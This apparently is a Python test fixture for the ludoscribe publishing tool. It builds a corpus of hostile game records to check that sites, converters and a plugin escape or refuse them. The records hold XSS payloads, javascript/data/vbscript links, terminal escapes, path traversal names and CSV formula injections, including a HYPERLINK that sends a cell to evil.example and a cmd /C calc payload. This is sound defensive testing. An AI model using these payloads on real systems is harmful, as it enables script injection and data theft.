"""Hostile records: what a stranger may put in a record to attack a published site, a
spreadsheet or a terminal (docs/publishing.md#safety).

Each entry of CORPUS is one record. Those with `refused` set must be read with exactly
that problem (and so be left out of sites and standings); the others must publish, their
text shown as text. To add a case, append a `Hostile` to CORPUS: `record()` writes a
valid Teblo record around the tags and movetext given. tests/test_hostile.py builds the
corpus with `site`, `convert --to md|html`, the mkdocs plugin and `standings`;
tests/test_browser_hostile.py opens and clicks what they produce.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

from click.testing import CliRunner

from ludoscribe.cli.main import cli


@dataclass(frozen=True)
class Hostile:
    """One hostile record: its name (a file name), the class it attacks, its TGN text."""

    name: str
    attack: str
    text: str
    refused: str | None = None  # the problem it is read with; None: it must publish


def tgn_value(text: str) -> str:
    """A tag value written for TGN (\\ and " escaped)."""
    return text.replace("\\", "\\\\").replace('"', '\\"')


def record(movetext: str | None = None, result: str = "*", **tags: str) -> str:
    """A Teblo record with the required tags (Event, Round, players... overridden by `tags`);
    its movetext is two turns unless given."""
    values = {"Game": "Teblo", "Event": "Hostile cup", "Site": "?", "Date": "2026.11.23", "Round": "1",
              "Yellow": "Ann", "Red": "Bob", "Result": result} | tags
    tags_text = "".join(f'[{name} "{tgn_value(value)}"]\n' for name, value in values.items())
    return tags_text + "\n" + (movetext or f"1. D4 H10 {result}") + "\n"


SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
JS_LINK = "[Ann](javascript:alert(1))"

CORPUS = [
    # 1. markup and script injection, in every tag shown and in comments and commands
    Hostile("script-tags", "html", record(Event=SCRIPT, Round=IMAGE, Yellow=IMAGE, Red="../../x",
                                          Annotator="</title><script>alert(2)</script>")),
    Hostile("script-comments", "html", record(
        f"{{{SCRIPT}}} 1. D4 {{{IMAGE} [%mark {IMAGE}] [%diagram]}} H10 {{../../x </script><script>alert(3)</script>}}"
        f" (1... I9 {{<b>bold</b> [%arrow D4-{IMAGE}] <svg onload=alert(4)>}}) *", Event="Comments")),
    Hostile("script-corrections", "html", record(
        f"{{[%undone 1. {SCRIPT}]}} 1. D4 {{[%undone 2. {IMAGE}] <b>kept</b> [%undone 0-1]}} H10 "
        "{[%undone *x* `y` | ~~z~~ # [a](javascript:alert(7))]} *", Event="Corrections")),
    Hostile("markdown-javascript-link", "markdown",
            record(Event="Club\x7f night [Ev](javascript:alert(2))", Yellow=JS_LINK + "\x9b\ufffe",
                   Red="![x](javascript:alert(3)) <javascript:alert(4)>")),
    Hostile("markdown-data-vbscript", "markdown", record(
        "1. D4 {[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <vbscript:msgbox(1)>} H10 *",
        Event="[x](vbscript:msgbox(1)) [y]: javascript:alert(5)", Yellow="[r][ref]", Red="<data:text/html,x>",
        Site="[ref]: javascript:alert(6)")),
    Hostile("markdown-syntax", "markdown", record(
        "1. D4 {**bold** _em_ `code` ~~del~~ # head | cell |} H10 ; {: onclick=\"alert(1)\"} [a](javascript:x)\n*",
        Event="# Heading {: onclick=alert(7) }", Yellow="*Ann* | `Bo` | ~~x~~", Red="&#106;avascript:alert(8) &lt;b&gt;",
        Round="1. = + - @ $x$ ^sup^ ==mark==")),
    Hostile("yaml-front-matter", "yaml", record(
        Event='E" : x # --- ]] {a: b}', Yellow="---\x7f\x9fx", Red="Bob\x00\x1f\ufffe\uffff",
        Site="\ud7ff\ue000\U0010fffd", Annotator="\\x41 \\u0041 \\")),
    Hostile("bidi-and-invisible", "terminal", record(Yellow="Ann\u202egnp.exe", Red="\ufeffBob\u200b\u2066x\u2069",
                                                     Event="Cup 😀 — Zoë 李")),
    # 8. terminals and spreadsheets
    Hostile("terminal-escapes", "terminal", record(
        "1. D4 {\x1b[2J\x1b]0;owned\x07} H10 1-0", result="1-0", Yellow="\x1b[31mEve\x1b[0m\x1b]8;;http://x\x07",
        Red="\x9b2J\x07Mal", Event="\x1b[2J\x1b[HCleared")),
    Hostile("csv-formulas", "csv", record(
        result="1-0", Event="@SUM(1+1)*cmd|' /C calc'!A0", Yellow='=HYPERLINK("http://evil.example/?"&A1,"win")',
        Red="+1-1")),
    Hostile("csv-formulas-2", "csv", record(
        result="0-1", Event="@SUM(1+1)*cmd|' /C calc'!A0", Yellow="-2+3", Red="\t=1+1")),
    Hostile("csv-separators", "csv", record(
        result="1/2-1/2", Event="@SUM(1+1)*cmd|' /C calc'!A0", Yellow="x;=1+1", Red='a,"=2+2')),
    # paths: names that would lead a file out of its folder
    Hostile("paths", "path", record(Event="../../../etc/passwd", Yellow="/etc/passwd", Red="..", Round="CON")),
    Hostile("empty-names", "path", record(Event="", Yellow="", Red="?", Round="")),
    # 2. line breaks: refused in tags (each reader of the pages splits lines differently)
    Hostile("carriage-return-fence", "line break", record(Red="Bob\r```tgn\r"),
            refused="7:10: tag Red: its value holds a line break (U+000D); a tag value is one line"),
    Hostile("line-separator-fence", "line break", record(Yellow="Ann\u2028```tgn\u2028"),
            refused="6:13: tag Yellow: its value holds a line break (U+2028); a tag value is one line"),
    Hostile("next-line", "line break", record(Event="E\x85x"),
            refused="2:10: tag Event: its value holds a line break (U+0085); a tag value is one line"),
    Hostile("form-feed", "line break", record(Round="1\x0c```"),
            refused="5:10: tag Round: its value holds a line break (U+000C); a tag value is one line"),
    Hostile("file-separator", "line break", record(Site="\x1c"),
            refused="3:8: tag Site: its value holds a line break (U+001C); a tag value is one line"),
    # comments may span lines: shown with their spaces tidied, never as a line of the page
    Hostile("comment-line-breaks", "line break", record(
        "1. D4 {a\r```tgn\r[Game \"Teblo\"]\u2028```\u2029\x0c# title\x85} H10 *", Event="Breaks")),
]
PUBLISHED = [hostile for hostile in CORPUS if hostile.refused is None]
REFUSED = [hostile for hostile in CORPUS if hostile.refused is not None]
# What must never appear in anything built from the corpus (outside escaped text).
SCRIPT_SCHEMES = ("javascript:", "data:", "vbscript:")


# --- building everything the corpus can be published as ------------------------------

PLUGIN_CONFIG = """site_name: Hostile plugin test
use_directory_urls: false
theme:
  name: {theme}
plugins:
  - search
  - ludoscribe:
      record_dirs: [records]
markdown_extensions: [tables, toc, attr_list, md_in_html, fenced_code, def_list]
"""


def write_corpus(folder: Path) -> list[Path]:
    """One .tgn file per entry of CORPUS, written byte for byte (carriage returns kept)."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for hostile in CORPUS:
        path = folder / f"{hostile.name}.tgn"
        with open(path, "w", encoding="utf-8", newline="") as stream:
            stream.write(hostile.text)
        paths.append(path)
    return paths


def run_cli(*args: str):
    """The command's result (exit code, stdout, stderr) as a user gets it."""
    return CliRunner().invoke(cli, [str(arg) for arg in args])


def build_plugin_site(root: Path, records: Path, theme: str = "mkdocs") -> subprocess.CompletedProcess:
    """An mkdocs site using the plugin: a page per published record (tgn-file) and one with
    every record written inline (tgn); built strict."""
    (root / "docs").mkdir(parents=True, exist_ok=True)
    shutil.copytree(records, root / "records", dirs_exist_ok=True)
    (root / "mkdocs.yml").write_text(PLUGIN_CONFIG.format(theme=theme), encoding="utf-8")
    index = ["# Hostile records", ""]
    for hostile in PUBLISHED:
        index += [f"## {hostile.name}", "", "```tgn-file", f"path: records/{hostile.name}.tgn", "tags: true", "```", ""]
    (root / "docs" / "index.md").write_text("\n".join(index), encoding="utf-8")
    inline = ["# Inline", ""]
    for hostile in PUBLISHED:
        inline += ["````tgn", "tags: true", hostile.text.rstrip("\n"), "````", ""]
    with open(root / "docs" / "inline.md", "w", encoding="utf-8", newline="") as stream:
        stream.write("\n".join(inline))
    command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-f", str(root / "mkdocs.yml")]
    return subprocess.run(command, capture_output=True, text=True)


EMBED_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Embedded</title><script src="viewer.js"></script></head>
<body><main><h1>A page of its own</h1>
<script type="application/json" class="ludoscribe">{json}</script>
</main></body></html>
"""


def embed_page(folder: Path, name: str) -> Path:
    """A plain HTML page holding the viewer of `name`.json (convert --to embed, viewer.js beside it)."""
    page = folder / f"{name}.html"
    page.write_text(EMBED_PAGE.format(json=(folder / f"{name}.json").read_text(encoding="utf-8")), encoding="utf-8")
    return page


def build_everything(root: Path) -> dict[str, Path]:
    """The corpus published every way: site (both themes), convert --to md|html|embed, the plugin.

    Returns the folders holding the output of each; asserts each build went as documented.
    """
    records = root / "in"
    write_corpus(records)
    built = {}
    for theme in ("material", "mkdocs"):
        result = run_cli("site", records, "-o", root / f"site-{theme}", "--project", root / f"project-{theme}",
                         "--theme", theme)
        assert result.exit_code == 1, result.output  # the refused records are left out
        built[f"site-{theme}"] = root / f"site-{theme}"
    converted = root / "converted"
    for hostile in PUBLISHED:
        for target in ("md", "html"):
            result = run_cli("convert", records / f"{hostile.name}.tgn", "--to", target,
                             "-o", converted / hostile.name / f"{hostile.name}.{target}")
            assert result.exit_code == 0, (hostile.name, result.output)
    built["converted"] = converted
    embedded = root / "embedded"
    for hostile in PUBLISHED:
        result = run_cli("convert", records / f"{hostile.name}.tgn", "--to", "embed", "-o", embedded / f"{hostile.name}.json")
        assert result.exit_code == 0, (hostile.name, result.output)
        embed_page(embedded, hostile.name)
    built["embedded"] = embedded
    plugin = build_plugin_site(root / "plugin", records)
    assert plugin.returncode == 0, plugin.stderr
    built["plugin"] = root / "plugin" / "site"
    return built
